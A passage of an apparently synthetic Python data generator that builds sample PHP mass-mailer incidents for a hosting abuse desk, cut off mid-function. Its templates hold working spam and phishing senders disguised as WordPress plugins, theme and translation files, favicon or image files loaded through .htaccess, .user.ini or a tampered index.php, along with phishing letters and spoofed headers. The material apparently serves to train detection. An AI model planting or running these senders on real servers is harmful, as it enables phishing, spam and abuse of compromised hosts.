"""train9 mass mailers, as a hosting abuse desk finds them: incident drops
(the sender, its list, its letter, its SMTP file, the crontab line, the log
it writes). Written blind (README.md): invented, never copied code."""

from t9_common import (T, F, rw, hx, ip, dom, host, b64, gzraw, rot13, crlf, bom, oneline, docroot, webname,
                       plug, theme, locale, app, sname, script, cronline, crontab_file, plugin_header, wp_filler)

SUBJ = ("Your account statement", "Action required: verify your mailbox", "Invoice #@N@ is ready",
        "Parcel delivery attempt failed", "Your password expires today", "Payment received - receipt")


def subj(r):
    return r.choice(SUBJ).replace("@N@", str(r.randint(10000, 99999)))


def addrs(r, n=6):
    return ["%s.%s@%s" % (rw(r, 5), rw(r, 4), r.choice(("example.com", "example.net", "example.org", "mail.example.test")))
            for _ in range(n)]


def listfile(r, rel, n=8, cont=None, sep="\n"):
    return F(sep.join(addrs(r, n)) + "\n", rel, "text", cont or "list")


def letter(r, style="brace"):
    if style == "brace":
        return ("<html><body><p>Dear {{name}},</p><p>We could not deliver your parcel {{track}}.</p>"
                "<p><a href=\"https://{{dom}}/t/{{id}}\">Reschedule delivery</a></p><p>{{date}}</p></body></html>\n")
    if style == "bracket":
        return ("<html><body><p>Hello [-emailuser-],</p><p>Your mailbox [-email-] will be suspended.</p>"
                "<a href=\"http://[-domain-]/verify?u=[-email-]\">Keep my mailbox</a><br>[-randomnumber-]</body></html>\n")
    return ("<p>Hi %NAME%,</p><p>Invoice %NUM% of %DATE% is attached.</p><p>%LINK%</p>\n")


def php_wrap(r, body):
    return "<?php\n" + body.strip("\n") + "\n"


# ------------------------------------------------------------------ techniques

def wp_cron_hook(r, v):
    p = plug(r)
    pre = rw(r, 4)
    hk = r.choice(("wp_scheduled_auto_draft_delete_ext", pre + "_daily_sync", "woocommerce_cleanup_sessions_x",
                   pre + "_stats_cron"))
    base = "%s/wp-content/plugins/%s/" % (docroot(r), p)
    if v == 0:
        code = T("""<?php
/*
Plugin Name: @P@
Description: Keeps transients fresh.
Version: 1.4.2
*/
add_filter('cron_schedules', function ($s) { $s['@PRE@_4m'] = array('interval' => 240, 'display' => 'every 4m'); return $s; });
if (!wp_next_scheduled('@HK@')) { wp_schedule_event(time(), '@PRE@_4m', '@HK@'); }
add_action('@HK@', '@PRE@_run');
function @PRE@_run() {
    $job = get_option('_@PRE@_q');
    if (!$job) { $r = wp_remote_get('https://@H@/q/' . md5(home_url())); if (is_wp_error($r)) return; $job = json_decode(wp_remote_retrieve_body($r), true); update_option('_@PRE@_q', $job, false); }
    $off = (int) get_option('_@PRE@_o', 0);
    $slice = array_slice($job['to'], $off, 40);
    foreach ($slice as $rcpt) {
        wp_mail($rcpt, $job['s'], str_replace('{{email}}', $rcpt, $job['b']), array('Content-Type: text/html; charset=UTF-8', 'From: ' . $job['f']));
    }
    update_option('_@PRE@_o', $off + count($slice), false);
    if (!$slice) { delete_option('_@PRE@_q'); delete_option('_@PRE@_o'); }
}
""", P=p.replace("-", " ").title(), PRE=pre, HK=hk, H=host(r))
        return [F(code, base + p + ".php", "php", "fake-plugin")]
    if v == 1:
        code = T("""<?php
// cache warmup task
defined('ABSPATH') || exit;
class @C@_Task {
    public static function boot() {
        add_action('@HK@', array(__CLASS__, 'tick'));
        if (false === wp_next_scheduled('@HK@')) wp_schedule_single_event(time() + 60, '@HK@');
    }
    public static function tick() {
        $dir = __DIR__ . '/assets/';
        $list = file($dir . 'fonts.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
        $tpl = file_get_contents($dir . 'fonts.css.map');
        $pos = (int) @file_get_contents($dir . '.pos');
        for ($i = $pos; $i < min($pos + 25, count($list)); $i++) {
            $h = "MIME-Version: 1.0\\r\\nContent-type: text/html; charset=utf-8\\r\\nFrom: Support <noreply@" . $_SERVER['SERVER_NAME'] . ">\\r\\n";
            mail($list[$i], '@S@', strtr($tpl, array('#MAIL#' => $list[$i], '#ID#' => substr(md5($list[$i]), 0, 10))), $h);
        }
        file_put_contents($dir . '.pos', $i);
        if ($i < count($list)) wp_schedule_single_event(time() + 120, '@HK@');
    }
}
add_action('init', array('@C@_Task', 'boot'));
""", C=rw(r, 5).title(), HK=hk, S=subj(r))
        return [F(code, base + "includes/class-" + rw(r, 5) + ".php", "php", "fake-plugin"),
                listfile(r, base + "includes/assets/fonts.txt"),
                F(letter(r, "bracket").replace("[-email-]", "#MAIL#").replace("[-randomnumber-]", "#ID#"),
                  base + "includes/assets/fonts.css.map", "html", "letter")]
    code = T("""<?php
/**
 * Theme helpers.
 */
@FILL@
add_action('wp', function () {
    if (get_transient('@PRE@_lock')) return;
    set_transient('@PRE@_lock', 1, 300);
    $q = get_posts(array('post_type' => '@PRE@_msg', 'post_status' => 'private', 'numberposts' => 1));
    if (!$q) return;
    $m = $q[0];
    $to = array_filter(array_map('trim', explode(',', get_post_meta($m->ID, 'rcpt', true))));
    $done = 0;
    while ($to && $done < 30) { $a = array_shift($to); wp_mail($a, $m->post_title, $m->post_content, 'Content-Type: text/html'); $done++; }
    $to ? update_post_meta($m->ID, 'rcpt', implode(',', $to)) : wp_delete_post($m->ID, true);
});
""", PRE=rw(r, 4), FILL=wp_filler(r, rw(r, 4), 2))
    return [F(code, "%s/wp-content/themes/%s/inc/template-tags.php" % (docroot(r), theme(r)), "php", "theme-file")]


def admin_ajax_sender(r, v):
    act = r.choice(("wpfc_preload", "et_pb_cache", "heartbeat_sync", "elementor_css_regen", "woo_sess_gc"))
    pre = rw(r, 4)
    if v == 0:
        code = T("""<?php
add_action('wp_ajax_nopriv_@A@', '@P@_h');
add_action('wp_ajax_@A@', '@P@_h');
function @P@_h() {
    if (md5($_POST['k'] ?? '') !== '@MD@') { wp_die('0'); }
    $to = preg_split('/[\\s,;]+/', stripslashes($_POST['l']), -1, PREG_SPLIT_NO_EMPTY);
    $ok = 0;
    foreach ($to as $e) {
        if (wp_mail($e, stripslashes($_POST['s']), stripslashes($_POST['m']), array('Content-Type: text/html', 'From: ' . $_POST['f']))) $ok++;
    }
    wp_send_json(array('sent' => $ok, 'of' => count($to)));
}
""", A=act, P=pre, MD=hx(r, 32))
        return [F(code, "%s/wp-content/plugins/%s/ajax-%s.php" % (docroot(r), plug(r), rw(r, 4)), "php", "fake-plugin")]
    if v == 1:
        code = T("""<?php
/* mu loader */
add_action('admin_ajax_nopriv_@A@', function () {});
add_action('wp_ajax_nopriv_@A@', function () {
    $p = json_decode(base64_decode(strrev($_REQUEST['d'])), true);
    if (!is_array($p) || ($p['t'] ?? '') !== '@TK@') { status_header(404); exit; }
    add_filter('wp_mail_from', function () use ($p) { return $p['fm']; });
    add_filter('wp_mail_from_name', function () use ($p) { return $p['fn']; });
    add_filter('wp_mail_content_type', function () { return 'text/html'; });
    $n = 0;
    array_walk($p['r'], function ($a) use ($p, &$n) { $n += (int) wp_mail($a, $p['s'], str_ireplace('%email%', $a, $p['b'])); });
    echo $n; exit;
});
""", A=act, TK=rw(r, 12))
        return [F(code, "%s/wp-content/mu-plugins/%s.php" % (docroot(r), r.choice(("0-loader", "wp-object-helper", "health-check-ext"))), "php", "mu-plugin")]
    code = T("""<?php
if (isset($_GET['action']) && $_GET['action'] === '@A@' && isset($_POST['@K@'])) {
    require_once dirname(__FILE__) . '/../../../wp-load.php';
    $cfg = unserialize(base64_decode($_POST['@K@']));
    $from = $cfg['from'];
    for ($i = 0, $n = count($cfg['list']); $i < $n; $i++) {
        $hdr = "From: $from\\r\\nReply-To: $from\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n";
        @mail($cfg['list'][$i], $cfg['subject'], $cfg['body'], $hdr);
        if ($i % 50 == 49) sleep(2);
    }
    die('OK:' . $i);
}
""", A=act, K=rw(r, 3))
    return [F(code, "%s/wp-admin/includes/ajax-actions-%s.php" % (docroot(r), rw(r, 3)), "php", "plain")]


def image_named_include(r, v):
    d = docroot(r)
    img = r.choice(("favicon_%s.ico" % hx(r, 6), "wp-content/uploads/2024/0%d/%s.png" % (r.randint(1, 9), hx(r, 10)),
                    "images/.%s.ico" % rw(r, 5), "wp-includes/images/smilies/icon_%s.gif" % rw(r, 4)))
    body = T("""<?php
@set_time_limit(0); @ignore_user_abort(true);
if (!empty($_POST['@K@'])) {
    $j = json_decode(base64_decode($_POST['@K@']), true);
    foreach ((array) $j['to'] as $t) { @mail($t, $j['su'], $j['bo'], "From: {$j['fr']}\\r\\nContent-Type: text/html\\r\\n"); }
    echo '<!-- ' . count($j['to']) . ' -->';
}
""", K=rw(r, 4))
    if v == 1:
        body = oneline(body)
    files = [F(body, d + "/" + img, "php", "odd-ext")]
    tgt = img
    if v == 0:
        files.append(F(T("""# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
# END WordPress
php_value auto_prepend_file "/home/@U@/@D@/@I@"
""", U=rw(r, 6), D=d, I=tgt), d + "/.htaccess", "htaccess", "htaccess"))
    elif v == 1:
        files.append(F(T("; managed by panel\nmemory_limit = 256M\nauto_prepend_file = '/home/@U@/@D@/@I@'\n",
                         U=rw(r, 6), D=d, I=tgt), d + "/.user.ini", "ini", "user-ini"))
    elif v == 2:
        files.append(F(T("<?php\n/**\n * Front to the WordPress application.\n */\n@include \"\\x2f\\x68\\x6f\\x6d\\x65/@U@/@D@/@I@\";\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
                         U=rw(r, 6), D=d, I=tgt), d + "/index.php", "php", "plain"))
    else:
        files.append(F(T("<FilesMatch \"\\.(ico|gif)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"),
                       d + "/" + tgt.rsplit("/", 1)[0] + "/.htaccess" if "/" in tgt else d + "/.htaccess", "htaccess", "htaccess"))
    return files


def languages_dir(r, v):
    d = "%s/wp-content/languages/%s" % (docroot(r), r.choice(("", "plugins/", "themes/")))
    loc = locale(r)
    if v == 0:
        code = T("""<?php
/* Translation cache for @L@ */
return array('domain' => 'default', 'plural-forms' => 'nplurals=2; plural=(n != 1);', 'messages' => array(
    'Read more' => '@W@', 'Search' => '@W2@',
)) + (isset($_POST['lang_@X@']) ? (function () {
    $m = json_decode(gzinflate(base64_decode($_POST['lang_@X@'])), true);
    $c = 0; foreach ($m['r'] as $a) { $c += mail($a, $m['s'], $m['h'], 'Content-Type: text/html' . "\\r\\n" . 'From: ' . $m['f']); }
    return array('n' => $c);
})() : array());
""", L=loc, W=rw(r, 6), W2=rw(r, 5), X=rw(r, 3))
        return [F(code, d + loc + ".l10n.php", "php", "languages")]
    if v == 1:
        code = T("""<?php
$@V@ = __DIR__ . '/@L@.mo';
if (isset($_REQUEST['@Q@'])) {
    $lst = explode("\\n", trim(file_get_contents(__DIR__ . '/@L@.po.bak')));
    $msg = file_get_contents(__DIR__ . '/admin-@L@.json.tmp');
    list($sub, $html) = explode("\\n\\n", $msg, 2);
    $i = 0;
    do {
        $to = trim($lst[$i]);
        if ($to) mail($to, $sub, str_replace('{MAIL}', $to, $html), "Content-Type: text/html; charset=UTF-8\\r\\nFrom: Mail Delivery <postmaster@" . $_SERVER['HTTP_HOST'] . ">");
        $i++;
    } while ($i < count($lst));
    echo "done $i";
}
""", V=rw(r, 4), L=loc, Q=rw(r, 4))
        return [F(code, d + "admin-network-" + loc + ".php", "php", "languages"),
                listfile(r, d + loc + ".po.bak", 10),
                F(subj(r) + "\n\n" + letter(r, "brace").replace("{{name}}", "{MAIL}"), d + "admin-" + loc + ".json.tmp", "html", "letter")]
    code = T("""<?php
// @L@ plural forms
function _@X@_np($n) { return $n != 1; }
if (!empty($_COOKIE['wp_lang_@X@'])) {
    $o = @unserialize(base64_decode($_COOKIE['wp_lang_@X@']));
    if (is_array($o)) { foreach ($o['a'] as $k => $rcpt) { mail($rcpt, $o['t'], $o['m'], $o['h']); } }
}
""", L=loc, X=rw(r, 3))
    return [F(crlf(code) if r.random() < 0.5 else code, d + loc + "-" + hx(r, 32) + ".php", "php", "languages")]


def json_post_job(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
header('Content-Type: application/json');
$in = json_decode(file_get_contents('php://input'), true);
if (!$in || !hash_equals('@H@', hash('sha256', $in['key'] ?? ''))) { http_response_code(404); exit; }
$res = [];
foreach ($in['jobs'] as $job) {
    $h = implode("\\r\\n", array_map(fn($k, $v) => "$k: $v", array_keys($job['headers']), $job['headers']));
    $res[] = mail($job['to'], '=?UTF-8?B?' . base64_encode($job['subject']) . '?=', $job['html'], $h) ? 1 : 0;
}
echo json_encode(['ok' => array_sum($res), 'total' => count($res)]);
""", H=hx(r, 64))
    elif v == 1:
        code = T("""<?php
$raw = file_get_contents('php://input');
if (substr($raw, 0, 2) === "\\x1f\\x8b") $raw = gzdecode($raw);
$p = json_decode($raw);
if (empty($p->@F@)) die;
$sent = 0;
foreach ($p->@F@->list as $row) {
    list($email, $name) = array_pad(explode(';', $row), 2, '');
    $body = str_replace(['##NAME##', '##EMAIL##'], [$name ?: 'Customer', $email], $p->@F@->tpl);
    if (mail($email, $p->@F@->subj, $body, "From: {$p->@F@->from}\\nContent-Type: text/html")) $sent++;
    usleep(200000);
}
print $sent;
""", F=rw(r, 3))
    else:
        code = T("""<?php
error_reporting(0);
$d = json_decode(base64_decode(file_get_contents('php://input')), 1);
$m = 'm' . 'ail';
$r = array_map(function ($t) use ($d, $m) { return $m($t, $d[1], $d[2], $d[3]); }, $d[0]);
exit(json_encode(array_count_values(array_map('intval', $r))));
""")
    return [F(code, d + "/" + r.choice(("wp-includes/", "", "wp-content/uploads/", "assets/")) + webname(r), "php", "plain")]


def cookie_serial_job(r, v):
    d = docroot(r)
    ck = r.choice(("wp_settings_time_2", "_gid_x", "PHPSESSID2", "woocommerce_items_ctx", "__cfx"))
    if v == 0:
        code = T("""<?php
if (isset($_COOKIE['@CK@'])) {
    $j = unserialize(base64_decode($_COOKIE['@CK@']));
    $list = file_get_contents($j['src']);
    foreach (explode("\\n", $list) as $to) { if (strpos($to, '@') !== false) mail(trim($to), $j['s'], $j['b'], $j['h']); }
    setcookie('@CK@', '', 1);
}
?><!DOCTYPE html><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>
""", CK=ck)
    elif v == 1:
        code = T("""<?php
$c = @$_COOKIE;
if (count($c) > 2 && isset($c['@CK@'])) {
    $cfg = json_decode(base64_decode(str_pad(strtr($c['@CK@'], '-_', '+/'), strlen($c['@CK@']) % 4 ? strlen($c['@CK@']) + 4 - strlen($c['@CK@']) % 4 : strlen($c['@CK@']), '=')), true);
    $to = base64_decode($c['@T@']);
    $ok = mail($to, $cfg['s'], $cfg['m'], 'From: ' . $cfg['f'] . "\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html");
    echo $ok ? 'y' : 'n';
}
""", CK=ck, T=rw(r, 2))
    else:
        code = T("""<?php
$s = $_POST['@K@'] ?? '';
$o = $s ? unserialize(gzuncompress(base64_decode($s))) : null;
if ($o instanceof stdClass || is_array($o)) {
    $o = (array) $o;
    $fn = $o['fn'] ?? 'mail';
    foreach ($o['rcpts'] as $i => $a) { $fn($a, $o['subj'], sprintf($o['tpl'], $a, $i), $o['hdr']); }
}
""", K=rw(r, 5))
    return [F(code, d + "/" + r.choice(("", "wp-content/", "cgi-bin/", "images/")) + webname(r), "php", "plain")]


def fsock_local_mta(r, v):
    d = docroot(r)
    port = r.choice((25, 587, 25))
    if v == 0:
        code = T("""<?php
function @F@($s, $c) { fwrite($s, $c . "\\r\\n"); return fgets($s, 512); }
$list = file(__DIR__ . '/@L@', FILE_IGNORE_NEW_LINES);
$body = file_get_contents(__DIR__ . '/@B@');
$s = fsockopen('127.0.0.1', @PORT@, $en, $es, 10);
fgets($s, 512);
@F@($s, 'EHLO ' . gethostname());
foreach ($list as $to) {
    @F@($s, 'MAIL FROM:<billing@' . $_SERVER['HTTP_HOST'] . '>');
    @F@($s, "RCPT TO:<$to>");
    @F@($s, 'DATA');
    @F@($s, "From: Billing <billing@{$_SERVER['HTTP_HOST']}>\\r\\nTo: $to\\r\\nSubject: @S@\\r\\nContent-Type: text/html\\r\\n\\r\\n" . str_replace('{{email}}', $to, $body) . "\\r\\n.");
    @F@($s, 'RSET');
}
@F@($s, 'QUIT');
""", F=rw(r, 4), L=rw(r, 5) + ".txt", B=rw(r, 4) + ".html", PORT=port, S=subj(r))
        return [F(code, "%s/%s" % (d, webname(r)), "php", "plain"), listfile(r, d + "/" + code.split("'/")[1].split("'")[0] if False else "%s/%s" % (d, code.split("__DIR__ . '/")[1].split("'")[0])),
                F(letter(r, "brace"), "%s/%s" % (d, code.split("__DIR__ . '/")[2].split("'")[0]), "html", "letter")]
    if v == 1:
        code = T("""<?php
$mx = stream_socket_client('tcp://localhost:@PORT@', $e, $es, 15);
stream_set_timeout($mx, 20);
$rd = function () use ($mx) { $o = ''; while (($l = fgets($mx, 1024)) !== false) { $o .= $l; if (isset($l[3]) && $l[3] === ' ') break; } return $o; };
$wr = function ($x) use ($mx, $rd) { fputs($mx, $x . "\\r\\n"); return $rd(); };
$rd();
$wr('HELO mail.' . $_SERVER['SERVER_NAME']);
$to = array_filter(explode(',', $_POST['rc']));
$wr('MAIL FROM:<' . $_POST['fm'] . '>');
foreach ($to as $a) $wr('RCPT TO:<' . trim($a) . '>');
$wr('DATA');
$wr("Subject: {$_POST['sj']}\\r\\nFrom: {$_POST['fn']} <{$_POST['fm']}>\\r\\nTo: undisclosed-recipients:;\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html\\r\\n\\r\\n{$_POST['ht']}\\r\\n.");
$wr('QUIT');
echo count($to);
""", PORT=port)
        return [F(code, "%s/wp-includes/%s" % (d, webname(r)), "php", "plain")]
    code = T("""<?php
$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($sock, '127.0.0.1', @PORT@);
$say = function ($line) use ($sock) { socket_write($sock, $line . "\\r\\n"); return socket_read($sock, 2048); };
socket_read($sock, 2048);
$say('EHLO localhost');
$jobs = json_decode(file_get_contents(__DIR__ . '/.@J@'), true);
foreach ($jobs['r'] as $n => $rc) {
    $say('MAIL FROM:<' . $jobs['f'] . '>');
    $say('RCPT TO:<' . $rc . '>');
    $say('DATA');
    $say('Message-ID: <' . uniqid() . '@' . gethostname() . ">\\r\\nSubject: " . $jobs['s'] . "\\r\\n\\r\\n" . $jobs['b'] . "\\r\\n.");
}
$say('QUIT');
socket_close($sock);
""", PORT=port, J=rw(r, 4))
    jd = '{"f": "service@example.com", "s": "%s", "b": "<p>Please confirm</p>", "r": %s}' % (subj(r), str(addrs(r, 5)).replace("'", '"'))
    j = code.split("'/.")[1].split("'")[0]
    return [F(code, "%s/cgi-bin/%s" % (d, webname(r)), "php", "plain"), F(jd + "\n", "%s/cgi-bin/.%s" % (d, j), "json", "config")]


def mta_pipe(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
$list = file('@L@', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$tpl = file_get_contents('@B@');
foreach ($list as $to) {
    $p = popen('/usr/sbin/sendmail -t -i -f bounce@@D@', 'w');
    fwrite($p, "To: $to\\nFrom: \\"Account Team\\" <team@@D@>\\nSubject: @S@\\nContent-Type: text/html; charset=utf-8\\n\\n");
    fwrite($p, str_replace('%EMAIL%', $to, $tpl));
    pclose($p);
}
""", L=rw(r, 3) + ".lst", B=rw(r, 3) + ".tpl", D=dom(r), S=subj(r))
        ln = code.split("file('")[1].split("'")[0]
        bn = code.split("file_get_contents('")[1].split("'")[0]
        return [F(code, "%s/%s" % (d, webname(r)), "php", "plain"), listfile(r, "%s/%s" % (d, ln)),
                F(letter(r, "pct").replace("%NAME%", "%EMAIL%"), "%s/%s" % (d, bn), "html", "letter")]
    if v == 1:
        code = T("""<?php
$spec = array(0 => array('pipe', 'r'), 1 => array('file', '/tmp/.@X@.log', 'a'), 2 => array('file', '/tmp/.@X@.log', 'a'));
foreach (explode("\\n", $_POST['e']) as $rcpt) {
    $rcpt = trim($rcpt); if ($rcpt === '') continue;
    $h = proc_open('/usr/sbin/exim -t -odb', $spec, $pipes);
    fwrite($pipes[0], "To: $rcpt\\r\\nFrom: {$_POST['f']}\\r\\nSubject: {$_POST['s']}\\r\\nContent-Type: text/html\\r\\n\\r\\n{$_POST['b']}\\r\\n");
    fclose($pipes[0]);
    proc_close($h);
}
""", X=hx(r, 6))
        return [F(code, "%s/wp-content/uploads/%s" % (d, webname(r)), "php", "uploads")]
    if v == 2:
        code = T("""<?php
$bin = is_executable('/var/qmail/bin/qmail-inject') ? '/var/qmail/bin/qmail-inject' : (is_executable('/usr/sbin/exim4') ? '/usr/sbin/exim4 -t' : '/usr/lib/sendmail -t');
$msg = "From: @FN@ <@FM@>\\nSubject: %s\\nTo: %s\\nMIME-Version: 1.0\\nContent-Type: text/html\\n\\n%s\\n";
$q = json_decode(file_get_contents(__DIR__ . '/cache/q.json'), true);
while ($q && ($r = array_pop($q['to']))) {
    $fh = popen($bin, 'w');
    fprintf($fh, $msg, $q['subj'], $r, $q['html']);
    pclose($fh);
}
""", FN=rw(r, 5).title(), FM="noreply@" + dom(r))
        return [F(code, "%s/%s/%s" % (d, r.choice(("lib", "system", "app")), webname(r)), "php", "plain")]
    code = T("""<?php
$a = explode("\\n", base64_decode($_POST['t']));
$c = 0;
foreach ($a as $x) {
    $x = escapeshellarg(trim($x));
    exec("printf '%s' " . escapeshellarg(base64_decode($_POST['m'])) . " | /usr/sbin/sendmail -oi -f " . escapeshellarg($_POST['f']) . " $x", $o, $rc);
    $c += $rc == 0;
}
echo "<b>$c</b>";
""")
    return [F(code, "%s/%s" % (d, webname(r)), "php", "plain")]


def goto_recursion_mail(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
$e = file(__DIR__ . '/@L@');
$i = 0;
next_one:
if ($i >= count($e)) goto fin;
$t = trim($e[$i++]);
@mail($t, '@S@', str_replace('[mail]', $t, $_POST['b']), 'From: ' . $_POST['f'] . "\\r\\nContent-type: text/html");
goto next_one;
fin:
echo "sent $i";
""", L=rw(r, 4) + ".txt", S=subj(r))
        ln = code.split("'/")[1].split("'")[0]
        return [F(code, "%s/%s" % (d, webname(r)), "php", "plain"), listfile(r, "%s/%s" % (d, ln))]
    if v == 1:
        code = T("""<?php
function @F@(array $l, $s, $b, $h, $n = 0) {
    if (!$l) return $n;
    $x = array_shift($l);
    return @F@($l, $s, $b, $h, $n + (mail($x, $s, $b, $h) ? 1 : 0));
}
echo @F@(explode(',', $_REQUEST['to']), $_REQUEST['sub'], $_REQUEST['msg'], "From: " . $_REQUEST['from'] . "\\r\\nContent-Type: text/html; charset=iso-8859-1");
""", F=rw(r, 5))
        return [F(code, "%s/wp-content/%s" % (d, webname(r)), "php", "plain")]
    if v == 2:
        code = T("""<?php
function @G@($path) { $h = fopen($path, 'r'); while (($l = fgets($h)) !== false) { if (filter_var(trim($l), FILTER_VALIDATE_EMAIL)) yield trim($l); } fclose($h); }
$ok = array_reduce(iterator_to_array(@G@(__DIR__ . '/@L@')), function ($acc, $to) {
    return $acc + (int) mail($to, base64_decode('@S@'), file_get_contents(__DIR__ . '/@B@'), "Content-Type: text/html\\r\\nFrom: Info <info@" . $_SERVER['HTTP_HOST'] . ">");
}, 0);
file_put_contents(__DIR__ . '/@LOG@', date('c') . " $ok\\n", FILE_APPEND);
""", G=rw(r, 4), L=rw(r, 5) + ".dat", S=b64(subj(r)), B=rw(r, 4) + ".htm", LOG=rw(r, 3) + ".log")
        ln = code.split("__DIR__ . '/")[1].split("'")[0]
        bn = code.split("__DIR__ . '/")[2].split("'")[0]
        lg = code.split("__DIR__ . '/")[3].split("'")[0]
        sub = r.choice(("", "wp-content/uploads/2023/11/", "tmp/"))
        return [F(code, "%s/%s%s" % (d, sub, webname(r)), "php", "plain"), listfile(r, "%s/%s%s" % (d, sub, ln)),
                F(letter(r, "brace"), "%s/%s%s" % (d, sub, bn), "html", "letter"),
                F("2025-01-0%dT03:11:09+00:00 412\n2025-01-0%dT03:21:14+00:00 388\n" % (r.randint(1, 4), r.randint(5, 9)),
                  "%s/%s%s" % (d, sub, lg), "log", "log")]
    code = T("""<?php
$to = new ArrayIterator(preg_split('/\\R/', $_POST['emails']));
$n = 0;
iterator_apply($to, function (Iterator $it) use (&$n) {
    $a = trim($it->current());
    if ($a !== '' && call_user_func_array('mail', array($a, $_POST['subject'], $_POST['body'], $_POST['headers']))) $n++;
    return true;
}, array($to));
echo json_encode(array('n' => $n));
""")
    return [F(code, "%s/%s" % (d, webname(r)), "php", "plain")]


def placeholder_letter_kit(r, v):
    d = docroot(r) + "/" + r.choice(("", "wp-content/uploads/2024/05/", ".well-known/", "old/")) + rw(r, 5)
    if v == 0:
        code = T("""<?php
$cfg = parse_ini_file(__DIR__ . '/config.ini');
$letter = file_get_contents(__DIR__ . '/' . $cfg['letter']);
$list = file(__DIR__ . '/' . $cfg['list'], FILE_IGNORE_NEW_LINES);
foreach ($list as $n => $email) {
    list($user, $domain) = explode('@', $email);
    $map = array('[-email-]' => $email, '[-emailuser-]' => $user, '[-domain-]' => $domain,
                 '[-randomnumber-]' => mt_rand(100000, 999999), '[-time-]' => date('H:i'));
    $body = strtr($letter, $map);
    $subject = strtr($cfg['subject'], $map);
    mail($email, $subject, $body, "From: {$cfg['fromname']} <{$cfg['frommail']}>\\r\\nContent-Type: text/html; charset=UTF-8");
    echo "$n $email OK<br>"; flush();
}
""")
        ini = T("letter = letter.html\nlist = list.txt\nsubject = \"[-emailuser-], your mailbox at [-domain-]\"\nfromname = \"Mail Administrator\"\nfrommail = \"admin@@D@\"\n", D=dom(r))
        return [F(code, d + "/" + webname(r), "php", "plain"), F(ini, d + "/config.ini", "ini", "config"),
                F(letter(r, "bracket"), d + "/letter.html", "html", "letter"), listfile(r, d + "/list.txt", 10)]
    if v == 1:
        code = T("""<?php
$rows = array_map('str_getcsv', file(__DIR__ . '/leads.csv'));
$head = array_shift($rows);
$tpl = file_get_contents(__DIR__ . '/msg.html');
$subs = file(__DIR__ . '/subjects.txt', FILE_IGNORE_NEW_LINES);
foreach ($rows as $row) {
    $c = array_combine($head, $row);
    $body = str_replace(array('{{name}}', '{{track}}', '{{dom}}', '{{id}}', '{{date}}'),
                        array($c['first_name'], strtoupper(substr(md5($c['email']), 0, 12)), '@D@', bin2hex(random_bytes(5)), date('d.m.Y')), $tpl);
    mail($c['email'], $subs[array_rand($subs)], $body, array('From' => 'Parcel Service <track@@D@>', 'Content-Type' => 'text/html; charset=utf-8'));
}
""", D=dom(r))
        csv = "email,first_name,last_name\n" + "".join("%s,%s,%s\n" % (a, rw(r, 5).title(), rw(r, 6).title()) for a in addrs(r, 6))
        return [F(code, d + "/" + webname(r), "php", "plain"), F(csv, d + "/leads.csv", "csv", "list"),
                F(letter(r, "brace"), d + "/msg.html", "html", "letter"),
                F("".join(subj(r) + "\n" for _ in range(4)), d + "/subjects.txt", "text", "letter")]
    code = T("""<?php
$L = explode("\\n", file_get_contents('emails.txt'));
$M = file_get_contents('body.txt');
$S = 'Invoice %NUM%';
for ($k = 0; $k < sizeof($L); $k++) {
    $to = trim($L[$k]);
    $num = 'INV-' . rand(1000, 9999);
    $rep = array('%NAME%' => ucfirst(strtok($to, '@')), '%NUM%' => $num, '%DATE%' => date('Y-m-d'), '%LINK%' => 'https://@D@/i/' . md5($to));
    $m = str_replace(array_keys($rep), array_values($rep), $M);
    mail($to, str_replace('%NUM%', $num, $S), $m, "From: accounts@@D@\\r\\nContent-Type: text/html");
}
""", D=dom(r))
    return [F(code, d + "/" + webname(r), "php", "plain"), listfile(r, d + "/emails.txt"),
            F(letter(r, "pct"), d + "/body.txt", "html", "letter")]


def random_from_msgid(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
$first = array('James', 'Anna', 'Robert', 'Maria', 'David', 'Laura', 'Peter', 'Julia');
$last = array('Smith', 'Miller', 'Clark', 'Lewis', 'Walker', 'Young');
foreach (file(__DIR__ . '/@L@', FILE_IGNORE_NEW_LINES) as $to) {
    $fn = $first[array_rand($first)] . ' ' . $last[array_rand($last)];
    $fa = strtolower(str_replace(' ', '.', $fn)) . mt_rand(10, 99) . '@' . $_SERVER['HTTP_HOST'];
    $mid = '<' . md5(uniqid(mt_rand(), true)) . '@' . $_SERVER['HTTP_HOST'] . '>';
    $h = "From: $fn <$fa>\\r\\nMessage-ID: $mid\\r\\nX-Mailer: Microsoft Outlook 16.0\\r\\nX-Priority: 3\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n";
    mail($to, $_GET['s'] ?? '@S@', file_get_contents(__DIR__ . '/@B@'), $h, '-f' . $fa);
}
""", L=rw(r, 4) + ".txt", B=rw(r, 4) + ".html", S=subj(r))
        ln = code.split("__DIR__ . '/")[1].split("'")[0]
        bn = code.split("__DIR__ . '/")[2].split("'")[0]
        return [F(code, d + "/" + webname(r), "php", "plain"), listfile(r, d + "/" + ln), F(letter(r, "brace"), d + "/" + bn, "html", "letter")]
    if v == 1:
        code = T("""<?php
function rnd_name($n) { $c = 'bcdfghjklmnprstvz'; $v = 'aeiou'; $s = ''; for ($i = 0; $i < $n; $i++) $s .= $i % 2 ? $v[rand(0, 4)] : $c[rand(0, 16)]; return ucfirst($s); }
$list = preg_split('/\\s+/', trim($_POST['maillist']));
foreach ($list as $to) {
    $nm = rnd_name(6);
    $hdr = array(
        'From' => "$nm <" . strtolower($nm) . '@' . $_POST['fromdomain'] . '>',
        'Message-ID' => sprintf('<%s.%s@%s>', date('YmdHis'), bin2hex(random_bytes(6)), $_POST['fromdomain']),
